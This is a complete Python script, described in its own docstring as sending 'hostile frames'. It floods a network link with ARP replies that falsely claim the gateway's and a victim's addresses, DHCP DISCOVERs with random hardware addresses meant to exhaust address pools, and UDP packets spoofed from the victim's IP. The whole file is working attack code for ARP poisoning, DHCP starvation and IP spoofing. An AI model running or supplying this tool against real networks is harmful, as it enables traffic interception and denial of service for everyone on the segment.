#!/usr/bin/python3
"""Hostile frames at a steady rate until it is ended: flood.py LINK RATE GATEWAY VICTIM DESTINATION DESTINATION-MAC

A third each: ARP that claims the gateway's and the victim's address, DHCP DISCOVERs with other hardware addresses, and
UDP from the victim's address. Prints "ready", then "sent N" about once a second.
"""
import os
import socket
import struct
import sys
import time

link, rate, gateway, victim, destination, destination_mac = sys.argv[1:7]


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(source, target, payload):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0, 0, 64, 17, 0, inet(source), inet(target))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def udp(source, target, payload):
    return struct.pack("!HHHH", source, target, 8 + len(payload), 0) + payload


inet = socket.inet_aton
own = mac(open("/sys/class/net/%s/address" % link).read().strip())
everyone = b"\xff" * 6


def arp(address):
    head = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
    return everyone + own + b"\x08\x06" + head + own + inet(address) + everyone + inet(address) + bytes(18)


def discover():
    bootp = struct.pack("!BBBBIHH16s", 1, 1, 6, 0, int.from_bytes(os.urandom(4), "big"), 0, 0x8000, bytes(16))
    bootp += b"\x02" + os.urandom(5) + bytes(10 + 64 + 128) + b"\x63\x82\x53\x63" + b"\x35\x01\x01\xff"
    return everyone + own + b"\x08\x00" + ip("0.0.0.0", "255.255.255.255", udp(68, 67, bootp))


def spoofed():
    return mac(destination_mac) + own + b"\x08\x00" + ip(victim, destination, udp(4000, 9, bytes(64)))


s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((link, 0))
makers = [lambda: arp(gateway), discover, spoofed, lambda: arp(victim), discover, spoofed]
print("ready", flush=True)
start = time.monotonic()
sent = 0
while True:
    due = int((time.monotonic() - start) * int(rate))
    while sent < due:
        try:
            s.send(makers[sent % len(makers)]())
        except OSError:
            pass  # The card's queue is full.
        sent += 1
        if sent % int(rate) == 0:
            print("sent", sent, flush=True)
    time.sleep(0.005)
